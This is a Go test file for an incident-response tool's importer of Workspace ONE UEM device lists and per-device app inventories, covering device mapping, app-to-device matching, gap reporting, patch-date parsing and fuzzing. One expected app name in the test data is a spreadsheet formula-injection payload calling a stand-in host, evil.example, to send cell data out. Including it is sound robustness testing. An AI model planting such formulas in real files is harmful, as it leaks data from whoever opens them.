package imports

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/custos-ir/custos/collect"
)

const ws1AppsDir = "testdata/wsone-apps"

func boolp(v bool) *bool { return &v }

func sameBool(a, b *bool) bool { return (a == nil) == (b == nil) && (a == nil || *a == *b) }

// A Workspace ONE device list and an app inventory by device, imported as
// a folder told by its content: the app export names devices by serial
// number only and is read first, yet every app lands on the device record
// of the device list; install sources are judged as the live source
// judges them; the inventory's silences are gaps.
func TestWSOneCSVAppInventory(t *testing.T) {
	if f, err := Detect(ws1AppsDir); err != nil || f != FormatWSOneCSV {
		t.Fatalf("Detect = %q, %v", f, err)
	}
	got := runImport(t, ws1AppsDir, "", collect.Request{})
	got.checkKept(t, map[string]string{"wsone-apps/devices.csv": ws1AppsDir + "/devices.csv", "wsone-apps/apps.csv": ws1AppsDir + "/apps.csv"})
	if n := got.exchange("wsone-apps/apps.csv").Note; !strings.HasPrefix(n, "imported Workspace ONE UEM app inventory export by device (CSV), kept as given") ||
		!strings.Contains(n, "/line/N") {
		t.Errorf("apps note %q", n)
	}
	if n := got.exchange("wsone-apps/devices.csv").Note; !strings.HasPrefix(n, "imported Workspace ONE UEM device list export (CSV), kept as given") {
		t.Errorf("devices note %q", n)
	}

	// Devices, mapped as the live source maps them.
	want := map[string]collect.Device{
		"wsone:5614": {Key: "wsone:5614", Source: "wsone", SourceID: "5614", Name: "jdoe iPhone iOS 17.5.1", Platform: "ios", OSVersion: "17.5.1",
			Model: "iPhone 14", Serial: "F2LXK0ABCD12", User: "jdoe@contoso.com", Ownership: "corporate", ManagementMode: "Enrolled",
			Category: "EMEA", Compliance: "compliant", LastSeenAt: ts("2024-06-10T07:55:00Z"), EnrolledAt: ts("2024-02-01T09:12:00Z"),
			Compromised: collect.Compromised{Value: "false", Field: "Compromised Status", RawValue: "Not Compromised"},
			Posture:     collect.Posture{Supervised: boolp(true), Encrypted: boolp(true)}, Raw: collect.RawRef{Pointer: "/line/2"}},
		"wsone:5620": {Key: "wsone:5620", Source: "wsone", SourceID: "5620", Name: "Anna's iPhone", Platform: "ios", OSVersion: "17.4.1",
			Model: "iPhone 15 Pro", Serial: "G6TZ1XYZ9876", User: "asmith", Ownership: "personal", ManagementMode: "Enrolled",
			Category: "EMEA", Compliance: "noncompliant", LastSeenAt: ts("2024-06-13T23:02:00Z"), EnrolledAt: ts("2024-03-15T12:00:00Z"),
			Compromised: collect.Compromised{Value: "false", Field: "Compromised Status", RawValue: "NotCompromised"},
			Posture:     collect.Posture{Supervised: boolp(false), Encrypted: boolp(true)}, Raw: collect.RawRef{Pointer: "/line/3"}},
		"wsone:5631": {Key: "wsone:5631", Source: "wsone", SourceID: "5631", Name: "Lobby iPhone SE", Platform: "ios", OSVersion: "17.5",
			Model: "iPhone SE (3rd generation)", Serial: "F17ZK2LOBBY1", User: "kiosk", Ownership: "corporate", ManagementMode: "Enrolled",
			Category: "Front Desk", Compliance: "compliant", LastSeenAt: ts("2024-06-12T06:00:00Z"), EnrolledAt: ts("2023-11-02T10:00:00Z"),
			Compromised: collect.Compromised{Value: "false", Field: "Compromised Status", RawValue: "Not Compromised"},
			Posture:     collect.Posture{Supervised: boolp(true), Encrypted: boolp(true)}, Raw: collect.RawRef{Pointer: "/line/4"}},
		"wsone:5702": {Key: "wsone:5702", Source: "wsone", SourceID: "5702", Name: "Field Galaxy 07", Platform: "android", OSVersion: "14",
			SecurityPatchLevel: "2024-05-01", Model: "SM-S911B", Serial: "R5CT9876543", User: "fieldtech@contoso.com", Ownership: "corporate",
			ManagementMode: "Enrolled", Category: "Field Ops", Compliance: "compliant", LastSeenAt: ts("2024-06-11T16:30:00Z"),
			EnrolledAt:  ts("2024-01-20T08:00:00Z"),
			Compromised: collect.Compromised{Value: "true", Field: "Compromised Status", RawValue: "Compromised"},
			Posture:     collect.Posture{Encrypted: boolp(true)}, Raw: collect.RawRef{Pointer: "/line/5"}},
	}
	if len(got.devices) != len(want) {
		t.Errorf("%d devices, want %d", len(got.devices), len(want))
	}
	for k, w := range want {
		d, ok := got.devices[k]
		if !ok {
			t.Errorf("no device %s", k)
			continue
		}
		if !strings.HasPrefix(d.Raw.Path, "raw/wsone/") || d.Raw.SHA256 == "" {
			t.Errorf("%s: raw %+v", k, d.Raw)
		}
		d.Raw.Path, d.Raw.SHA256 = "", ""
		if dj, wj := mustJSON(t, d), mustJSON(t, w); dj != wj {
			t.Errorf("%s:\n got %s\nwant %s", k, dj, wj)
		}
	}

	// Apps (as the staging orders them: by device, then as read), each on
	// the device record of its serial number.
	type app struct {
		device, name, appID, version, source, installer, state string
		managed                                                *bool
		line                                                   string
	}
	wantApps := []app{
		{"wsone:5614", "Microsoft Outlook", "com.microsoft.Office.Outlook", "4.2419.0", "store", "com.apple.AppStore", "Installed", boolp(true), "/line/2"},
		{"wsone:5614", "Sileo", "org.coolstar.SileoStore", "2.5.1", "sideloaded", "", "Installed", boolp(false), "/line/3"},
		{"wsone:5614", "Contoso Expenses", "com.contoso.expenses", "412", "enterprise", "", "Installed", boolp(true), "/line/4"},
		{"wsone:5620", "Contoso Field Beta", "com.contoso.field.beta", "3.0", "beta", "com.apple.TestFlight", "Installed", boolp(false), "/line/5"},
		{"wsone:5620", "Fortnite", "com.epicgames.fortnite", "29.10", "marketplace", "com.epicgames.EpicGamesStore", "Installed", boolp(false), "/line/6"},
		{"wsone:5702", "Contoso Field", "com.contoso.field", "3.2.0", "enterprise", "", "Pending Install", boolp(true), "/line/7"},
		{"wsone:5702", "Contoso Field", "com.contoso.field", "3.1.4", "enterprise", "", "Installed", boolp(true), "/line/8"},
		{"wsone:5702", "WhatsApp", "com.whatsapp", "2.24.11.79", "store", "", "Installed", boolp(false), "/line/9"},
		{"wsone:5702", "Chrome", "com.android.chrome", "125.0.6422.113", "system", "", "Installed", nil, "/line/10"},
		{"wsone:5702", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")\nFlashlight", "com.example.flashlight", "1.0", "unknown", "", "Installed", nil, "/line/11"},
		{"wsone:serial:DMPXK9RET001", "Keynote", "com.apple.Keynote", "14.1", "store", "com.apple.AppStore", "Installed", boolp(true), "/line/13"},
	}
	if len(got.apps) != len(wantApps) {
		t.Fatalf("%d apps, want %d: %+v", len(got.apps), len(wantApps), got.apps)
	}
	for i, w := range wantApps {
		a := got.apps[i]
		if a.DeviceKey != w.device || a.Name != w.name || a.AppID != w.appID || a.Version != w.version || a.InstallSource != w.source ||
			a.Installer != w.installer || a.State != w.state || !sameBool(a.Managed, w.managed) || a.Raw.Pointer != w.line ||
			a.Publisher != "" || a.SourceAppID != "" || a.Prevalence != 0 {
			t.Errorf("app %d:\n got %+v\nwant %+v", i, a, w)
		}
	}
	if line := resolveRef(t, got.dir, "Keynote", got.apps[10].Raw); !strings.Contains(line, "DMPXK9RET001") {
		t.Errorf("Keynote points at %q", line)
	}

	// Telemetry and gaps: the personal device's inventory is partial, the
	// lobby iPhone's is missing; the others are covered.
	if d := collectDescriptor(t, ws1AppsDir); !slices.Equal(d.Telemetry, []string{collect.TelemetryDeviceState, collect.TelemetryAppInventory}) ||
		!slices.Equal(d.Endpoints, []string{"file:wsone-apps/apps.csv", "file:wsone-apps/devices.csv"}) {
		t.Errorf("descriptor %+v", d)
	}
	got.wantSourceGaps(t, collect.TelemetryDeviceLogs, collect.TelemetryAdminAudit)
	var gaps []collect.Gap
	for _, g := range got.gaps {
		if g.DeviceKey != "" {
			gaps = append(gaps, g)
		}
	}
	wantGaps := []collect.Gap{
		{DeviceKey: "wsone:5620", Source: "wsone", Telemetry: collect.TelemetryAppInventory, Reason: collect.ReasonPersonalScope, Detail: wsonePersonal},
		{DeviceKey: "wsone:5631", Source: "wsone", Telemetry: collect.TelemetryAppInventory, Reason: collect.ReasonNotSupported, Detail: wsoneNoApps},
	}
	if mustJSON(t, gaps) != mustJSON(t, wantGaps) {
		t.Errorf("device gaps\n got %s\nwant %s", mustJSON(t, gaps), mustJSON(t, wantGaps))
	}
}

// The app export alone: its apps are kept under the keys a device export
// would give their devices (here by serial number), with no device
// record, and only the app inventory is claimed.
func TestWSOneCSVAppsOnly(t *testing.T) {
	got := runImport(t, ws1AppsDir+"/apps.csv", "", collect.Request{})
	if len(got.devices) != 0 || len(got.apps) != 11 {
		t.Fatalf("%d devices, %d apps", len(got.devices), len(got.apps))
	}
	keys := map[string]int{}
	for _, a := range got.apps {
		keys[a.DeviceKey]++
	}
	if keys["wsone:serial:F2LXK0ABCD12"] != 3 || keys["wsone:serial:G6TZ1XYZ9876"] != 2 || keys["wsone:serial:R5CT9876543"] != 5 || len(keys) != 4 {
		t.Errorf("device keys %v", keys)
	}
	got.wantSourceGaps(t, collect.TelemetryDeviceState, collect.TelemetryDeviceLogs, collect.TelemetryAdminAudit)
	if d := collectDescriptor(t, ws1AppsDir+"/apps.csv"); !slices.Equal(d.Telemetry, []string{collect.TelemetryAppInventory}) {
		t.Errorf("telemetry %v", d.Telemetry)
	}
	// Selected by id, as the CLI's id: selector does for such apps.
	sel, err := collect.ParseSelector("id:serial:G6TZ1XYZ9876")
	if err != nil {
		t.Fatal(err)
	}
	if got := runImport(t, ws1AppsDir+"/apps.csv", "", collect.Request{Selectors: []collect.Selector{sel}}); len(got.apps) != 2 {
		t.Errorf("%d apps selected by id", len(got.apps))
	}
}

// An app export with none of Workspace ONE's markers, its devices named
// by Device ID (read with --format wsone-csv), and one naming them by
// UDID: both land on the device records, whatever the case of the UDID.
func TestWSOneCSVAppsByIDAndUDID(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "ws1")
	os.Mkdir(dir, 0o755)
	devices, _ := os.ReadFile(ws1AppsDir + "/devices.csv")
	os.WriteFile(filepath.Join(dir, "devices.csv"), devices, 0o644)
	os.WriteFile(filepath.Join(dir, "by-id.csv"), []byte("DeviceId,ApplicationName,Version,ApplicationIdentifier,Type,IsManaged\n"+
		"5631,Maps,3.0,com.apple.Maps,System,False\n5702,,,com.contoso.field,Internal,True\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "by-udid.csv"), []byte("UDID;App Name;Installed Version;Bundle ID;App Type;Beta App\n"+
		"00008120-001a2b3c4d5e6f70;Notes;1.0;com.example.notes;Public;maybe\n"), 0o644)
	got := runImport(t, dir, FormatWSOneCSV, collect.Request{})
	if len(got.apps) != 3 {
		t.Fatalf("%d apps", len(got.apps))
	}
	byID := map[string]collect.App{}
	for _, a := range got.apps {
		byID[a.AppID] = a
	}
	if a := byID["com.apple.Maps"]; a.DeviceKey != "wsone:5631" || a.InstallSource != "system" || !sameBool(a.Managed, boolp(false)) || a.Raw.Pointer != "/line/2" {
		t.Errorf("Maps %+v", a)
	}
	if a := byID["com.contoso.field"]; a.DeviceKey != "wsone:5702" || a.Name != "" || a.InstallSource != "enterprise" || a.Raw.Pointer != "/line/3" {
		t.Errorf("an app named by its identifier only: %+v", a)
	}
	if a := byID["com.example.notes"]; a.DeviceKey != "wsone:5620" || a.Name != "Notes" || a.InstallSource != "store" || a.Version != "1.0" {
		t.Errorf("an app whose beta flag is not a yes/no: %+v", a)
	}
	// Every device is covered now but the jdoe iPhone; Anna's is personal.
	var gaps []string
	for _, g := range got.gaps {
		if g.DeviceKey != "" {
			gaps = append(gaps, g.DeviceKey+" "+g.Reason)
		}
	}
	if want := []string{"wsone:5614 " + collect.ReasonNotSupported, "wsone:5620 " + collect.ReasonPersonalScope}; !slices.Equal(gaps, want) {
		t.Errorf("gaps %v, want %v", gaps, want)
	}
}

// Apps that cannot be tied to exactly one device record fail the import
// with the app's file and line; nothing is left beside its device under
// another key.
func TestWSOneCSVAppsUntied(t *testing.T) {
	const devHeader = "Friendly Name,Device ID,Serial Number,UDID\n"
	for _, c := range []struct {
		name, devices, apps, want string
	}{
		{"serials against ids only", "Friendly Name,Device ID\nA,5614\nB,5620\n",
			"Serial Number,Application Name\nF2LXK0ABCD12,Outlook\n",
			`w/apps.csv:2: cannot tell which device this app is on: its row names the device by Serial Number only, and device "5614" (w/devices.csv:2) has no Serial Number to compare; export the devices and the apps with a common Device ID, UDID or Serial Number column`},
		{"a device without the app's kinds", devHeader + "A,5614,F2LXK0ABCD12,\nB,,,00008120-001A2B3C4D5E6F70\n",
			"Serial Number,Application Name\nF2LXK0ABCD12,Outlook\nG6TZ1XYZ9876,Notes\n",
			`w/apps.csv:3: cannot tell which device this app is on: its row names the device by Serial Number only, and device "udid:00008120-001A2B3C4D5E6F70" (w/devices.csv:3) has no Serial Number to compare`},
		{"identifiers disagree", devHeader + "A,5614,F2LXK0ABCD12,\n",
			"Device ID,Serial Number,Application Name\n5614,F2LXK0ABCD12,Outlook\n5614,G6TZ1XYZ9876,Notes\n",
			`w/apps.csv:3: this app's row names device "5614" (w/devices.csv:2) by its Device ID, but gives Serial Number "G6TZ1XYZ9876" where the device has "F2LXK0ABCD12"`},
		{"a serial of another device", "Friendly Name,Device ID,Serial Number\nA,5614,\nB,5620,G6TZ1XYZ9876\n",
			"Device ID,Serial Number,Application Name\n5614,G6TZ1XYZ9876,Outlook\n",
			`w/apps.csv:2: this app's row names device "5614" (w/devices.csv:2) by its Device ID, but its Serial Number "G6TZ1XYZ9876" is another device's (w/devices.csv:3)`},
		{"a serial on two devices", devHeader + "old,5600,F2LXK0ABCD12,\nnew,5614,F2LXK0ABCD12,\n",
			"Serial Number,Application Name\nF2LXK0ABCD12,Outlook\n",
			`w/apps.csv:2: cannot tell which device this app is on: 2 devices have its Serial Number "F2LXK0ABCD12" (the first on w/devices.csv:2), and the row has no other identifier to tell them apart`},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "w")
			os.Mkdir(dir, 0o755)
			os.WriteFile(filepath.Join(dir, "devices.csv"), []byte(c.devices), 0o644)
			os.WriteFile(filepath.Join(dir, "apps.csv"), []byte(c.apps), 0o644)
			im, err := Open(dir, FormatWSOneCSV, Options{})
			if err == nil || !strings.Contains(err.Error(), c.want) || im != nil {
				t.Fatalf("err = %v\nwant it to contain %q", err, c.want)
			}
		})
	}

	// A re-enrolled device listed twice under one serial: the app's Device
	// ID tells them apart.
	dir := filepath.Join(t.TempDir(), "w")
	os.Mkdir(dir, 0o755)
	os.WriteFile(filepath.Join(dir, "devices.csv"), []byte(devHeader+"old,5600,F2LXK0ABCD12,\nnew,5614,F2LXK0ABCD12,\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "apps.csv"), []byte("Device ID,Serial Number,Application Name\n5614,F2LXK0ABCD12,Outlook\n"), 0o644)
	got := runImport(t, dir, FormatWSOneCSV, collect.Request{})
	if len(got.apps) != 1 || got.apps[0].DeviceKey != "wsone:5614" {
		t.Errorf("apps %+v", got.apps)
	}
}

// Task 2: the device mapping agrees with the live source's
// (collect/wsone/model.go device.record) for the fields both read.
func TestWSOneDeviceMappingAsLive(t *testing.T) {
	got := runImport(t, "testdata/wsone/devices.json", "", collect.Request{})
	if d := got.devices["wsone:5614"]; d.User != "jdoe@contoso.com" || d.OSVersion != "17.5.1" || d.SecurityPatchLevel != "" || d.Posture.Encrypted != nil {
		t.Errorf("5614: user %q (the email address first), os %q, patch %q, encrypted %v", d.User, d.OSVersion, d.SecurityPatchLevel, d.Posture.Encrypted)
	}
	if d := got.devices["wsone:5615"]; d.User != "asmith" || d.SecurityPatchLevel != "2024-05-01" || d.OSVersion != "14.0" {
		t.Errorf("5615: user %q, patch %q, os %q", d.User, d.SecurityPatchLevel, d.OSVersion)
	}
	csv := runImport(t, "testdata/wsone/devices.csv", FormatWSOneCSV, collect.Request{})
	if d := csv.devices["wsone:udid:00008110000A1C2E3F"]; d.OSVersion != "17.5.1" || d.User != "jdoe" {
		t.Errorf("a bare version: %q; user %q", d.OSVersion, d.User)
	}

	p := filepath.Join(t.TempDir(), "d.json")
	os.WriteFile(p, []byte(`{"Devices":[
{"Id":{"Value":1},"DeviceFriendlyName":" ","DeviceReportedName":"Anna's iPhone","UserName":"asmith","UserEmailAddress":"anna@contoso.com",
 "CompromisedStatus":"NotCompromised","DataEncryptionYN":"Y","SecurityPatchDate":"2024-06-05T00:00:00","Platform":"Android","OperatingSystem":"Android 14"},
{"Id":{"Value":2},"DeviceFriendlyName":"B","ComplianceStatus":"PendingComplianceCheck","CompromisedStatus":"Compromised","DataEncryptionYN":"N","SecurityPatchDate":"0001-01-01T00:00:00"},
{"Id":{"Value":3},"DeviceFriendlyName":"C","CompromisedStatus":"Not Compromised","DataEncryptionYN":false,"SecurityPatchDate":"June 2024"}]}`), 0o644)
	got = runImport(t, p, FormatWSOneJSON, collect.Request{})
	if d := got.devices["wsone:1"]; d.Name != "Anna's iPhone" || d.User != "anna@contoso.com" || d.Compromised.Value != "false" ||
		!sameBool(d.Posture.Encrypted, boolp(true)) || d.SecurityPatchLevel != "2024-06-05" || d.OSVersion != "14" {
		t.Errorf("1: %+v", d)
	}
	if d := got.devices["wsone:2"]; d.Compliance != "pendingcompliancecheck" || d.Compromised.Value != "true" || !sameBool(d.Posture.Encrypted, boolp(false)) || d.SecurityPatchLevel != "" {
		t.Errorf("2: %+v", d)
	}
	if d := got.devices["wsone:3"]; d.Compromised.Value != "false" || !sameBool(d.Posture.Encrypted, boolp(false)) || d.SecurityPatchLevel != "June 2024" {
		t.Errorf("3: %+v", d)
	}
	for s, want := range map[string]string{"Compromised": "true", "NotCompromised": "false", "Not Compromised": "false", "NOT_COMPROMISED": "false",
		"true": "true", "False": "false", "": "unknown", "Unknown": "unknown"} {
		if got := wsoneCompromised(s); got != want {
			t.Errorf("wsoneCompromised(%q) = %q, want %q", s, got, want)
		}
	}
}

// A security patch date is recorded as YYYY-MM-DD when the import can read
// it without guessing, and kept as written otherwise; reading it leaves
// the file's notes alone.
func TestPatchDate(t *testing.T) {
	monthFirst, _ := newTimeReader("f", []dateCell{{1, "6/13/2024"}})
	dayFirst, _ := newTimeReader("f", []dateCell{{1, "13/6/2024"}})
	guessed, _ := newTimeReader("f", nil)
	for _, c := range []struct {
		tr   *timeReader
		in   string
		want string
	}{
		{guessed, "2024-05-01T00:00:00.000", "2024-05-01"},
		{guessed, " 2024-05-01 ", "2024-05-01"},
		{guessed, "2024-05-01T23:30:00-05:00", "2024-05-01"}, // the date as written
		{guessed, "0001-01-01T00:00:00", ""},
		{guessed, "2024-02-30", "2024-02-30"},
		{guessed, "", ""},
		{guessed, "Not Available", ""},
		{guessed, "June 2024", "June 2024"},
		{monthFirst, "5/1/2024", "2024-05-01"},
		{dayFirst, "5/1/2024", "2024-01-05"},
		{guessed, "5/1/2024", "5/1/2024"},    // the order is not known
		{guessed, "13/5/2024", "2024-05-13"}, // the date shows it
		{guessed, "5/13/2024 12:00 AM", "2024-05-13"},
		{guessed, "01.05.2024", "2024-05-01"},
		{guessed, "Jan 5, 2024", "2024-01-05"},
	} {
		before := mustJSON(t, c.tr.notes())
		if got := patchDate(c.tr, c.in); got != c.want {
			t.Errorf("patchDate(%q) = %q, want %q", c.in, got, c.want)
		}
		if after := mustJSON(t, c.tr.notes()); after != before {
			t.Errorf("patchDate(%q) changed the notes: %s", c.in, after)
		}
	}
}

// collectDescriptor is what an import of path describes.
func collectDescriptor(t *testing.T, path string) collect.Descriptor {
	t.Helper()
	im, err := Open(path, FormatWSOneCSV, Options{})
	if err != nil {
		t.Fatal(err)
	}
	return im.Describe()
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// FuzzWSOneCSVFolder reads a Workspace ONE device export and an app
// export together, in either order: no panic, an error names a file, and
// an app is on a device record exactly when its row shares an identifier
// with it; never beside it under another key.
func FuzzWSOneCSVFolder(f *testing.F) {
	devices, _ := os.ReadFile(ws1AppsDir + "/devices.csv")
	apps, _ := os.ReadFile(ws1AppsDir + "/apps.csv")
	f.Add(devices, apps, false)
	f.Add(devices, apps, true)
	f.Add([]byte("Device ID,Serial Number,UDID\n1,S,\n2,S,u\n3,,U2\n"), []byte("Serial Number,UDID,Application Name\ns,,a\n,u2,b\nS,U,c\n"), false)
	f.Add([]byte("Friendly Name,Device ID\nA,1\n"), []byte("Device ID;Serial Number;App Name\n1;X;a\n9;;b\n"), true)
	f.Fuzz(func(t *testing.T, devData, appData []byte, appsFirst bool) {
		p := &wsoneCSV{}
		im, ok := importPair(t, p, devData, appData, appsFirst)
		if !ok {
			return
		}
		byKey := map[string]deviceIDs{}
		for _, d := range p.devs {
			byKey[d.key] = d
		}
		for _, a := range p.apps {
			key := im.apps[a.rec].rec.DeviceKey
			if !strings.HasPrefix(key, "wsone:") {
				t.Fatalf("app of %q", key)
			}
			if d, ok := byKey[key]; ok {
				if !d.shares(a.ids) {
					t.Fatalf("app %+v on device %+v, which shares no identifier with it", a.ids, d)
				}
				continue
			}
			for _, d := range p.devs {
				if d.shares(a.ids) {
					t.Fatalf("app %+v keyed %q beside device %q, which shares an identifier with it", a.ids, key, d.key)
				}
			}
		}
		checkRecords(t, im, append(append([]byte{}, devData...), appData...), sourceWSOne)
	})
}

// importPair parses a device export (d.csv) and an app export (a.csv)
// with p, in either order, then finishes: ok false when it failed, as it
// must, naming one of the files.
func importPair(t *testing.T, p exportParser, devData, appData []byte, appsFirst bool) (im *Import, ok bool) {
	t.Helper()
	im = &Import{}
	files := []*inputFile{{name: "d.csv", data: devData}, {name: "a.csv", data: appData}}
	if appsFirst {
		files[0], files[1] = files[1], files[0]
	}
	var err error
	for i, in := range files {
		im.files = append(im.files, in)
		if err = p.parse(im, i, in, Options{}.withDefaults()); err != nil {
			break
		}
	}
	if err == nil {
		err = p.finish(im)
	}
	if err != nil {
		if !strings.Contains(err.Error(), "a.csv") && !strings.Contains(err.Error(), "d.csv") {
			t.Fatalf("error without the file: %v", err)
		}
		return im, false
	}
	return im, true
}

// shares tells whether two rows have an identifier in common.
func (w deviceIDs) shares(o deviceIDs) bool {
	for k := range idKinds {
		if w.v[k] != "" && w.match(k) == o.match(k) {
			return true
		}
	}
	return false
}
